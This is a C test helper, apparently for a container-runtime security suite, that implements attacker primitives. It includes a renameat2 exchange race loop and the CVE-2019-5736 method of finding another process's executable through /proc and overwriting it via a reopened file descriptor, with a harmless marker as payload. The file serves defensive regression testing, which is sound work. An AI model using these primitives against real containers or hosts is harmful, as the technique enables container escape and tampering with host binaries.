/* Helpers of an attacker, for cve.test.ts. Static: one of them runs inside a container.
 *   exchange A B     exchanges two names for ever (renameat2), until its parent ends
 *   overwrite PATH   waits for a process that executes another program than PATH's, and tries to write to it:
 *                    says "seen NAME", then "wrote" or "refused", and ends
 *   run-and-end MS   a victim: lives MS milliseconds */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

static int exchange(const char *a, const char *b) {
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (;;)
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)) return 1;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The way of CVE-2019-5736: a read-only fd of the executable keeps it; it is writable once nobody executes it. */
static int try_to_write(int fd, const char *name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  printf("seen %s\n", name);
  for (double end = now() + 2; now() < end;) {
    int target = open(path, O_WRONLY);
    if (target >= 0 && write(target, "#!gone\n", 7) == 7) return puts("wrote"), 0;
    if (target >= 0) close(target);
  }
  return puts("refused"), 0;
}

static int overwrite(const char *ours) {
  double end = now() + 20;
  while (now() < end) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
      char path[300], name[300];
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      ssize_t n = readlink(path, name, sizeof name - 1);
      if (n <= 0) continue;
      name[n] = 0;
      if (strstr(ours, name)) continue;
      int fd = open(path, O_RDONLY);
      if (fd >= 0) return try_to_write(fd, name);
    }
    if (proc) closedir(proc);
  }
  return puts("nothing seen"), 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 4 && !strcmp(argv[1], "exchange")) return exchange(argv[2], argv[3]);
  if (argc == 3 && !strcmp(argv[1], "overwrite")) return overwrite(argv[2]);
  if (argc == 3 && !strcmp(argv[1], "run-and-end")) return usleep((unsigned)atoi(argv[2]) * 1000), 0;
  return 2;
}
